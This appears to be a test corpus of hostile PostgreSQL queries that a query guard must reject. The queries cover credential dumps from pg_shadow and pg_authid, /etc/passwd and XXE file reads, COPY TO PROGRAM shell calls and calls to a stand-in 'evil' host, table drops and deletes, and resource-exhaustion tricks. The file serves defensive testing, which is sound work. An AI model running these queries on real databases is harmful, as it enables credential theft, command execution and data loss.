# hostile in PostgreSQL
SELECT pg_sleep(10)
SELECT pg_catalog.pg_sleep(10)
SELECT "pg_sleep"(10)
SELECT PG_SLEEP(10)
SELECT pg_sleep_for('5 minutes')
SELECT 1 FROM pg_sleep(10)
SELECT 1 FROM orders, LATERAL pg_sleep(1)
SELECT pg_read_file('/etc/passwd')
SELECT pg_read_binary_file('/etc/passwd')
SELECT * FROM pg_ls_dir('/')
SELECT pg_stat_file('/etc/passwd')
SELECT lo_import('/etc/passwd')
SELECT lo_export(1, '/tmp/x')
SELECT lo_get(1)
SELECT lo_put(1, 0, 'x')
SELECT lo_from_bytea(0, 'x')
SELECT set_config('a', 'b', false)
SELECT current_setting('data_directory')
SELECT dblink('host=evil', 'select 1')
SELECT * FROM dblink('host=evil', 'select 1') AS t(a int)
SELECT dblink_exec('x', 'drop table orders')
SELECT query_to_xml('select * from pg_shadow', true, true, '')
SELECT table_to_xml('pg_shadow', true, true, '')
SELECT database_to_xml(true, true, '')
SELECT schema_to_xml('public', true, true, '')
SELECT cursor_to_xml('c', 1, true, true, '')
SELECT query_to_xml_and_xmlschema('select 1', true, true, '')
SELECT * FROM pg_catalog.pg_shadow
SELECT * FROM pg_shadow
SELECT * FROM pg_user
SELECT rolpassword FROM pg_authid
SELECT * FROM pg_stat_activity
SELECT * FROM pg_class
SELECT * FROM pg_tables
SELECT * FROM pg_settings
SELECT * FROM pg_hba_file_rules
SELECT pg_terminate_backend(1)
SELECT pg_cancel_backend(1)
SELECT pg_reload_conf()
SELECT pg_rotate_logfile()
SELECT pg_advisory_lock(1)
SELECT pg_try_advisory_xact_lock(1)
SELECT pg_notify('a', 'b')
SELECT txid_current()
SELECT pg_current_xact_id()
SELECT nextval('orders_id_seq')
SELECT setval('orders_id_seq', 1)
SELECT currval('orders_id_seq')
SELECT lastval()
SELECT version()
SELECT current_user
SELECT session_user
SELECT user
SELECT current_database()
SELECT inet_server_addr()
SELECT pg_export_snapshot()
SELECT pg_create_restore_point('x')
SELECT pg_switch_wal()
SELECT pg_logical_slot_get_changes('s', NULL, NULL)
SELECT pg_create_logical_replication_slot('s', 'test')
SELECT pg_relation_size('orders')
SELECT pg_get_viewdef('v'::regclass)
SELECT has_table_privilege('orders', 'select')
SELECT to_regclass('pg_shadow')
SELECT ts_stat('select password from customers')
SELECT * FROM ts_stat('select to_tsvector(name) from secrets')
SELECT ts_rewrite('a'::tsquery, 'select * from secrets')
SELECT xpath_table('id', 'doc', 'secrets', '/a', 'true')
SELECT * FROM crosstab('select * from secrets')
SELECT connectby('secrets', 'a', 'b', 'c', 0)
SELECT pg_file_write('/tmp/x', 'a', false)
SELECT pg_execute_server_program('id')
COPY (SELECT 1) TO PROGRAM 'id'
COPY orders FROM '/etc/passwd'
DO $$ BEGIN PERFORM 1; END $$
LISTEN x
NOTIFY x
SELECT * FROM orders FOR SHARE
SELECT * FROM orders FOR NO KEY UPDATE SKIP LOCKED
SELECT * INTO TEMP x FROM orders
SELECT * INTO UNLOGGED x FROM orders
CREATE TEMP TABLE x AS SELECT 1
SELECT * FROM ONLY secrets
SELECT * FROM ROWS FROM (pg_ls_dir('.'), generate_series(1, 2)) t
SELECT (SELECT pg_sleep(1))
SELECT * FROM orders ORDER BY pg_sleep(1)
SELECT CASE WHEN true THEN pg_sleep(1) END
SELECT array_agg(pg_sleep(1)) FROM orders
SELECT count(*) FILTER (WHERE pg_sleep(1) IS NULL) FROM orders
SELECT sum(total) OVER (ORDER BY pg_sleep(1)) FROM orders
SELECT COALESCE(pg_read_file('/etc/passwd'), 'x')
SELECT * FROM generate_series(1, 100000000000)
SELECT lpad('x', 1000000000)
SELECT repeat(repeat('x', 100000), 100000)
SELECT repeat('x', 1000*1000*1000)
SELECT * FROM public.secrets
SELECT * FROM mydb.public.orders
SELECT ctid, xmin, tableoid::regclass FROM orders
SELECT * FROM orders WHERE id = $1
TABLE secrets
TABLE pg_shadow
SELECT convert_from(pg_read_binary_file('/etc/passwd'), 'utf8')
SELECT * FROM json_populate_record(NULL::x, pg_read_file('/x')::json)
SELECT plpy_exec('x')
SELECT pg_catalog.set_config('role', 'postgres', false)
SELECT * FROM pg_timezone_names
SELECT gen_salt('bf')
SELECT pgp_sym_decrypt('x', 'y')
SELECT pg_backend_pid()
RESET ALL
DISCARD ALL
CLUSTER orders
REFRESH MATERIALIZED VIEW v
COMMENT ON TABLE orders IS 'x'
SECURITY LABEL ON TABLE orders IS 'x'
DECLARE c CURSOR FOR SELECT 1
FETCH ALL FROM c
SELECT (orders).pg_sleep FROM orders
SELECT ARRAY(TABLE pg_user)
SELECT (TABLE pg_user LIMIT 1)
SELECT * FROM orders TABLESAMPLE system(pg_sleep(1)::text::int)
SELECT DISTINCT ON (pg_sleep(1)) id FROM orders
SELECT JSON_OBJECT('a': pg_read_file('x'))
SELECT * FROM orders FETCH FIRST (SELECT pg_sleep(1)::text::int) ROWS ONLY
# written after the lists, and counted when they first ran (docs/guard.md)
WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d
WITH u AS (UPDATE orders SET total = 0 RETURNING id), x AS (SELECT 1) SELECT count(*) FROM u
WITH i AS (INSERT INTO orders (id) VALUES (1) RETURNING id) SELECT * FROM i
WITH m AS (MERGE INTO orders o USING customers c ON o.id = c.id WHEN MATCHED THEN DELETE RETURNING o.id) SELECT * FROM m
SELECT * INTO TEMP t FROM orders
SELECT * INTO UNLOGGED newtab FROM orders
SELECT usename, passwd FROM pg_shadow
SELECT rolname, rolpassword FROM pg_catalog.pg_authid
SELECT * FROM information_schema.tables
SELECT relname FROM pg_class
SELECT query FROM pg_stat_activity
SELECT name, setting FROM pg_settings
SELECT set_config('statement_timeout', '0', false)
SELECT pg_sleep(100)
SELECT pg_sleep_until('tomorrow')
SELECT 1 FROM orders WHERE id = 1 OR pg_sleep(5) IS NULL
SELECT * FROM pg_ls_waldir()
SELECT lo_get(16400)
SELECT lo_from_bytea(0, '\x00')
SELECT loread(lo_open(1, 262144), 100)
SELECT pg_terminate_backend(123)
SELECT pg_cancel_backend(123)
SELECT pg_notify('ch', 'msg')
SELECT currval('orders_id_seq'), lastval()
SELECT dblink('host=evil', 'SELECT 1')
SELECT * FROM dblink('dbname=x', 'DELETE FROM orders') AS t(a int)
SELECT dblink_exec('dbname=x', 'DROP TABLE orders')
SELECT query_to_xml('SELECT * FROM pg_shadow', true, true, '')
SELECT table_to_xml('orders', true, false, '')
SELECT xmlparse(document '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>')
SELECT ts_stat('SELECT vector FROM secrets')
SELECT * FROM ts_stat('SELECT to_tsvector(passwd) FROM pg_shadow')
SELECT current_user, session_user
SELECT inet_server_addr(), inet_client_addr()
SELECT current_database(), current_schemas(true)
SELECT has_table_privilege('orders', 'DELETE')
SELECT pg_get_viewdef('v')
SELECT pg_get_functiondef(1)
SELECT obj_description(1)
SELECT 'orders'::regclass::oid, 'pg_shadow'::regclass
SELECT pg_relation_size('orders'), pg_database_size('postgres')
SELECT pg_logical_emit_message(true, 'a', 'b')
SELECT pg_create_physical_replication_slot('x')
SELECT * FROM orders FOR UPDATE
SELECT * FROM (SELECT * FROM orders FOR UPDATE) s
COPY orders TO '/tmp/x'
COPY (SELECT * FROM orders) TO PROGRAM 'curl evil'
COPY orders FROM PROGRAM 'id'
DO $$ BEGIN DELETE FROM orders; END $$
CALL proc()
EXECUTE stmt
PREPARE s AS DELETE FROM orders
SET statement_timeout = 0
SET ROLE postgres
BEGIN; DELETE FROM orders; COMMIT
SELECT 1; DROP TABLE orders
VACUUM orders
ANALYZE orders
EXPLAIN ANALYZE DELETE FROM orders
LOCK TABLE orders
CREATE TABLE x AS SELECT * FROM orders
GRANT ALL ON orders TO public
LOAD 'x.so'
SELECT pg_catalog.pg_sleep(1)
SELECT "pg_sleep"(1)
SELECT U&"pg\005fsleep"(1)
SELECT PG_SLEEP(1)
SELECT evil.steal(id) FROM orders
SELECT * FROM public.secret_table
SELECT * FROM otherschema.orders
SELECT ctid, xmin FROM orders
SELECT tableoid::regclass FROM orders
SELECT plpy_execute('x')
SELECT lowrite(0, 'x')
SELECT pg_file_write('x', 'y', true)
SELECT adminpack.pg_file_unlink('x')
SELECT * FROM generate_series(1, 1000000000000)
SELECT repeat('a', 1000000000)
SELECT crypt('x', gen_salt('bf', 31))
SELECT http_get('http://evil')
SELECT * FROM pg_show_all_settings()
SELECT row_security_active('orders')
SELECT system_user
SELECT pg_my_temp_schema()
SELECT pg_column_size(o) FROM orders o, pg_locks
SELECT nextval('s'::regclass) FROM generate_series(1, 10)
SELECT pg_stat_reset()
SELECT pg_promote()
SELECT brin_summarize_new_values('i')
SELECT gin_clean_pending_list('i')
SELECT pg_import_system_collations('public')
SELECT string_agg(i::pg_catalog.oid::pg_catalog.regclass::text, ',') FROM generate_series(16384, 16500) AS i
SELECT 10::pg_catalog.regrole::text
SELECT 16384::"pg_catalog"."regclass"::text
SELECT 16384::regclass::text
SELECT CAST(16384 AS regnamespace)
SELECT CAST(CAST(16384 AS oid) AS text)
SELECT ARRAY[16384]::pg_catalog.regclass[]
SELECT '{16384}'::_regclass
SELECT regprocedure 'lower(text)'
SELECT * FROM json_populate_record(NULL::secret, '{}')
SELECT * FROM jsonb_populate_recordset(NULL::public.users, '[{}]')
SELECT * FROM json_populate_record(NULL::customers, '{}')
SELECT * FROM json_populate_record(NULL::"public"."orders", '{}')
SELECT (NULL::orders).total
SELECT to_json(NULL::orders)
SELECT NULL::file
SELECT NULL::map
SELECT NULL::nested
SELECT NULL::secret[]
SELECT CAST(NULL AS pg_catalog.pg_user)
SELECT NULL::information_schema.sql_identifier
SELECT '1'::pg_lsn
SELECT 'a=r/b'::aclitem
SELECT NULL::record
SELECT * FROM json_to_recordset('[]') AS t(a int, b pg_catalog.regclass)
SELECT * FROM json_to_recordset('[]') AS t(a int, b secret)
SELECT * FROM xmltable('/a' PASSING '<a/>'::xml COLUMNS b pg_catalog.regclass PATH 'b')
SELECT 1 OPERATOR(evil.===) 2
SELECT 1 OPERATOR(public.+) 2
SELECT 1 OPERATOR(===) 2
SELECT 1 OPERATOR("evil".+) 2
SELECT id FROM orders WHERE total OPERATOR(evil.<) 5
SELECT id FROM orders ORDER BY id USING OPERATOR(evil.<)
# by somebody who has read docs/guard.md
SELECT pg_sleep(5) FROM orders
SELECT * FROM pg_ls_dir('.')
SELECT set_config('role', 'postgres', false)
SELECT query_to_xml('select * from secrets', true, true, '')
SELECT table_to_xml('secrets', true, true, '')
SELECT orders_id_seq.last_value FROM orders_id_seq
SELECT * FROM orders o FOR KEY SHARE OF o SKIP LOCKED
SELECT id FROM (SELECT * FROM orders FOR NO KEY UPDATE) t
SELECT * INTO stolen FROM orders
SELECT * INTO TEMP stolen FROM orders
WITH x AS (INSERT INTO orders (id) VALUES (1) RETURNING id) SELECT * FROM x
WITH x AS MATERIALIZED (UPDATE orders SET total = 0 RETURNING id) SELECT count(*) FROM x
COPY orders TO PROGRAM 'sh'
COPY (SELECT 1) TO '/tmp/x'
SELECT 1; COMMIT; DROP TABLE orders
TABLE pg_user
SELECT 'pg_authid'::regclass
SELECT 'secrets'::pg_catalog.regclass::oid
SELECT to_regclass('public.secrets')
SELECT 1::oid::regclass
SELECT CAST('secrets' AS "regclass")
SELECT (NULL::secrets)
SELECT ROW(1, 2)::secrets
SELECT * FROM json_populate_recordset(NULL::public.secrets, '[{}]')
SELECT * FROM json_to_record('{"a":1}') AS x(a secrets)
SELECT * FROM json_to_recordset('[{"a":1}]') AS x(a pg_catalog.regclass)
SELECT * FROM ROWS FROM (json_to_record('{}') AS (a regrole)) t
SELECT * FROM jsonb_to_record('{}') AS x(a secrets[])
SELECT 1 OPERATOR(evil.+) 2
SELECT 1 OPERATOR("evil"."===") 2
SELECT * FROM orders WHERE id OPERATOR(public.=) ANY (SELECT 1)
SELECT has_table_privilege('secrets', 'select')
SELECT pg_relation_size('secrets')
SELECT pg_get_viewdef('v'::text)
SELECT obj_description(16384)
SELECT format_type(16384, NULL)
SELECT col_description(16384, 1)
SELECT ts_stat('select to_tsvector(token) from secrets')
SELECT * FROM ts_stat('select to_tsvector(token) from secrets')
SELECT * FROM crosstab('select 1,2,3') AS ct(a int, b int, c int)
SELECT xmltable('/a' PASSING '<a/>' COLUMNS a regclass)
SELECT * FROM XMLTABLE('/a' PASSING '<a/>'::xml COLUMNS a secrets PATH '.')
SELECT * FROM JSON_TABLE('{}', '$' COLUMNS (a regclass PATH '$.a')) t
SELECT repeat('x', 1000000000)
SELECT array_fill(1, ARRAY[100000000])
SELECT string_agg(repeat('x', 100000000), '') FROM generate_series(1, 1000)
WITH RECURSIVE c AS (SELECT 1 AS x UNION ALL SELECT x FROM c) SELECT * FROM c
WITH RECURSIVE c AS (SELECT 1 AS x UNION ALL SELECT a.x FROM c a, c b) SELECT * FROM c
SELECT public.my_function(1)
SELECT "pg_catalog"."pg_sleep"(1)
SELECT * FROM U&"secrets"
SELECT * FROM U&"\0073ecrets"
SELECT E'\'', password FROM secrets -- '
SELECT $a$ $b$ $a$, (SELECT token FROM secrets) $$x$$
SELECT ctid, xmin FROM pg_class
SELECT o.tableoid FROM orders o
SELECT pg_column_size(o) , pg_typeof(s) FROM orders o, secrets s
SELECT * FROM orders TABLESAMPLE secrets (1)
SELECT * FROM public.orders* , public.secrets*
SELECT * FROM ONLY (secrets)
VALUES ((SELECT token FROM secrets))
SELECT 1 ORDER BY (SELECT token FROM secrets)
SELECT 1 LIMIT (SELECT count(*) FROM secrets)
SELECT 1 OFFSET (SELECT length(token) FROM secrets LIMIT 1)
SELECT count(*) FILTER (WHERE EXISTS (SELECT FROM secrets)) FROM orders
SELECT sum(total) OVER (PARTITION BY (SELECT token FROM secrets LIMIT 1)) FROM orders
SELECT ARRAY(SELECT token FROM secrets)
SELECT DISTINCT ON ((SELECT token FROM secrets LIMIT 1)) id FROM orders
SELECT * FROM orders GROUP BY GROUPING SETS ((id, (SELECT token FROM secrets LIMIT 1)))
SELECT * FROM LATERAL (SELECT token FROM secrets) x
SELECT CASE WHEN (SELECT 1 FROM secrets LIMIT 1) = 1 THEN 1 END
SELECT (SELECT s FROM secrets s LIMIT 1).token
MERGE INTO orders o USING products p ON o.id = p.id WHEN MATCHED THEN DELETE
SELECT encode(pg_read_binary_file('x'), 'hex')
SELECT pg_stat_file('x')
SELECT currtid2('orders', '(0,1)')
SELECT row_security_active('secrets')
SELECT pg_input_is_valid('secrets', 'regclass')
SELECT * FROM pg_input_error_info('secrets', 'regclass')
SELECT pg_get_expr('x', 1)
SELECT brin_summarize_new_values('x')
SELECT gin_clean_pending_list('x')
SELECT random_normal(), setseed(0.5)
SELECT loread(1, 100)
SELECT xpath_table('id', 'x', 'secrets', '/', 'true')
SELECT plpgsql_call_handler()
CALL refresh()
WITH RECURSIVE c AS (SELECT 1 AS x UNION ALL SELECT c.x FROM c JOIN (VALUES (1), (2)) AS v(y) ON true) SELECT count(*) FROM c
SELECT array_fill(1, ARRAY[1000, 1000, 1000])
SELECT repeat('x', (SELECT count(*) FROM generate_series(1, 10000000) a)::int)
# sizes, samples and recursions
WITH RECURSIVE c AS (SELECT 1 AS x UNION ALL (SELECT x + 1 FROM c)) SELECT count(*) FROM c
WITH RECURSIVE c AS (SELECT 1 AS x UNION SELECT x * 2 FROM c) SELECT count(*) FROM c
SELECT repeat('x', count(*)::int * 1000000000) FROM generate_series(1, 5)
SELECT * FROM orders TABLESAMPLE pg_sleep (10)
SELECT array_fill(1, ARRAY[(SELECT 100000000)])
SELECT * FROM generate_series(1, (SELECT 10^12)::bigint)
SELECT * FROM generate_series(1::bigint, 10^12)
SELECT repeat('x', id * 1000 * 1000 * 1000) FROM orders
SELECT repeat(name, (1000 + length(name)) * 100000) FROM customers
# a fourth round, written before the lists were read again
SELECT 'customers'::pg_catalog.regclass::oid
SELECT id::text::regrole FROM orders
SELECT CAST(1259 AS "regclass")
SELECT CAST(CAST(id AS oid) AS pg_catalog."regproc")::text FROM orders
SELECT ARRAY[1259]::regclass[]
SELECT ('{1259}'::oid[]::regclass[])[1]
SELECT (ROW(1, 'x')::customers).email
SELECT ('(1,x,y,z,r,s,2020-01-01,)'::customers).*
SELECT NULL::pg_shadow
SELECT ('(a,b)'::pg_catalog.pg_authid)
SELECT * FROM jsonb_to_record('{"a":1}') AS x(a regclass)
SELECT * FROM json_to_recordset('[{"a":"pg_authid"}]') AS x(a regclass)
SELECT * FROM XMLTABLE('/a' PASSING '<a>1259</a>' COLUMNS b regclass PATH '.')
SELECT id OPERATOR("evil".=) 2 FROM orders
SELECT 'a' COLLATE "evil"."coll" FROM orders
SELECT * FROM orders TABLESAMPLE evil.sampler(1)
SELECT pg_typeof(id)::regtype FROM orders
SELECT query_to_xml('select * from pg_authid', true, false, '')
SELECT xpath('/', query_to_xml('select 1', true, true, ''))
SELECT ts_stat('select 1')
SELECT * FROM crosstab('select 1,2,3') AS ct(a int, b int)
SELECT nextval('orders_id_seq'), lastval()
SELECT setseed(0.1) FROM orders
SELECT lo_get(16400), encode(pg_read_binary_file('/etc/passwd'), 'hex')
SELECT (SELECT current_setting('data_directory')) FROM orders
SELECT id FROM (SELECT id FROM orders FOR SHARE) x
WITH x AS (MERGE INTO orders USING customers ON false WHEN NOT MATCHED THEN INSERT DEFAULT VALUES RETURNING *) SELECT * FROM x
SELECT U&'\0041', E'\'' || (SELECT rolpassword FROM pg_authid LIMIT 1) || E'\''
SELECT $$a$$ || (SELECT usename FROM pg_user LIMIT 1)
SELECT $a$ ' $a$, (SELECT passwd FROM pg_shadow LIMIT 1) -- '
TABLE pg_catalog.pg_class
SELECT * FROM "public".orders, information_schema.columns
SELECT array_fill(0, ARRAY[100000, 100000])
SELECT lpad('', 1000000000, 'x') FROM orders
SELECT string_to_table('a', ''), generate_subscripts(array_fill(1, ARRAY[1000000000]), 1)
SELECT * FROM generate_series(1, 10::bigint ^ 15)
SELECT has_table_privilege('pg_authid', 'select')
SELECT to_regclass('secret'), to_regtype('evil')
SELECT obj_description(1259), col_description(1259, 1)
SELECT id FROM orders WHERE pg_sleep_for('1 hour') IS NULL
SELECT convert_from(dblink_get_pkey('orders')::bytea, 'utf8')
SELECT count(*) FILTER (WHERE pg_advisory_lock(1) IS NULL) FROM orders
PREPARE p(regclass) AS SELECT $1
SELECT CAST(CAST(1259 AS oid) AS regclass) FROM orders
SELECT 'public.secret'::"regclass"::oid
SELECT ARRAY[1259,1260]::regclass[]
SELECT x.a::text FROM (VALUES (10::regrole)) AS x(a)
SELECT '{1259}'::_regclass
SELECT 'upper(text)'::regprocedure::oid, 'english'::regconfig, 'pg_catalog'::regnamespace
SELECT xmlparse(DOCUMENT '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>')
SELECT '<a/>'::xml, table_to_xml('public.secret', true, false, '')
SELECT query_to_xml_and_xmlschema('select * from secret', true, true, '')
SELECT * FROM ROWS FROM (pg_ls_dir('.'), generate_series(1, 3)) AS t(a, b)
SELECT * FROM orders o, LATERAL pg_stat_file('PG_VERSION') s
SELECT j.* FROM orders, LATERAL json_to_recordset(pg_read_file('/tmp/x.json')::json) AS j(a int)
SELECT jsonb_path_query(payload::jsonb, '$.a', vars => (SELECT to_jsonb(s) FROM pg_shadow s LIMIT 1)) FROM orders
SELECT * FROM JSON_TABLE((SELECT setting FROM pg_settings LIMIT 1)::jsonb, '$' COLUMNS (a int PATH '$.a'))
SELECT (pg_catalog.pg_config()).setting
SELECT customers::pg_authid FROM customers
SELECT NULL::pg_catalog.pg_user IS NULL, (NULL::pg_shadow).passwd
# a fifth round, written before the lists were read; then rows of constants and recursions
SELECT regclass 'vault'
SELECT pg_catalog.regclass '16400'
SELECT CAST(ARRAY['vault'] AS regclass[])
SELECT * FROM jsonb_to_recordset('[{"a":"vault"}]') AS t(a regclass)
SELECT pg_input_is_valid('vault', 'regclass')
SELECT * FROM pg_input_error_info('vault', 'regclass')
SELECT ROW(1, 'x')::public.vault
SELECT email(customers) FROM customers
SELECT word FROM ts_stat('SELECT to_tsvector(token) FROM vault')
SELECT ts_rewrite('a & b'::tsquery, 'SELECT token::tsquery, token::tsquery FROM vault')
SELECT query_to_xml('SELECT * FROM vault', true, false, '')
SELECT schema_to_xml_and_xmlschema('public', true, false, '')
SELECT * FROM ROWS FROM (pg_ls_dir('.'), generate_series(1, 3)) AS t(f, n)
SELECT id FROM orders OFFSET (SELECT count(*) FROM vault)
SELECT sum(total) FILTER (WHERE EXISTS (SELECT FROM vault)) FROM orders
SELECT * FROM U&"v\0061ult"
SELECT U&'\0061' UESCAPE '!' FROM vault
SELECT $$a$$ || $q$'; DELETE FROM orders; --$q$ FROM vault
SELECT txid_current(), pg_current_xact_id()
SELECT setseed(0.5)
WITH gone AS MATERIALIZED (DELETE FROM orders RETURNING *) SELECT count(*) FROM gone
WITH a AS (SELECT 1), b AS (MERGE INTO orders o USING a ON true WHEN MATCHED THEN DELETE RETURNING o.id) SELECT * FROM b
SELECT * FROM orders AS o FOR NO KEY UPDATE OF o SKIP LOCKED
SELECT pg_try_advisory_xact_lock_shared(1)
SELECT lo_from_bytea(0, 'abc'::bytea)
SELECT pg_sleep_until(now() + interval '10 minutes')
SELECT array_fill(0, ARRAY[30000, 30000])
SELECT string_agg(x::text, '') FROM generate_series('0001-01-01'::timestamp, '9999-01-01', '1 microsecond') AS x
SELECT currtid2('vault', '(0,1)')
SELECT tableoid::bigint, ctid FROM orders
SELECT xpath('/a', xmlparse(document '<!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]><a>&e;</a>')), query_to_xmlschema('TABLE vault', true, true, '')
SELECT * FROM orders TABLESAMPLE evil.peek(10)
SELECT inet_client_addr(), pg_backend_pid()
EXPLAIN (ANALYZE) DELETE FROM orders
SELECT has_column_privilege('customers', 'email', 'select')
SELECT col_description(16400, 1), pg_get_viewdef('v')
SELECT count(*) FROM generate_series('2000-01-01'::timestamp, now(), make_interval(secs => 0.001))
SELECT count(*) FROM generate_series(now(), 'infinity', '1 day')
SELECT count(*) FROM generate_series('2000-01-01'::timestamp, '294000-01-01', '00:00:01')
WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM (SELECT * FROM n) x) SELECT count(*) FROM n
WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n) SELECT count(*) FROM n LIMIT 5
# a sixth round
SELECT count(*) FROM generate_series(date '0001-01-01', date '9999-12-31', interval '1' second)
SELECT * FROM generate_series(timestamp 'epoch', timestamp 'infinity', interval '1 hour') LIMIT 5
WITH RECURSIVE t(n) AS (VALUES (1) UNION ALL SELECT n + 1 FROM t CROSS JOIN LATERAL (SELECT 1) x) SELECT sum(n) FROM t
SELECT pg_column_size(c.*), c.email FROM customers c
SELECT CAST(ROW(id, name) AS vault) FROM customers
SELECT array_agg(oid) FROM pg_class
SELECT * FROM information_schema.role_table_grants
SELECT string_agg(md5(random()::text), '') FROM generate_series(1, 1000000000)
SELECT count(*) FROM generate_series('epoch'::timestamp, 'now'::timestamp, '1 ms')
WITH RECURSIVE t(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM t, unnest(ARRAY[1, 2]) u) SELECT sum(n) FROM t
WITH RECURSIVE t(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM t, generate_series(1, 2) g) SELECT sum(n) FROM t
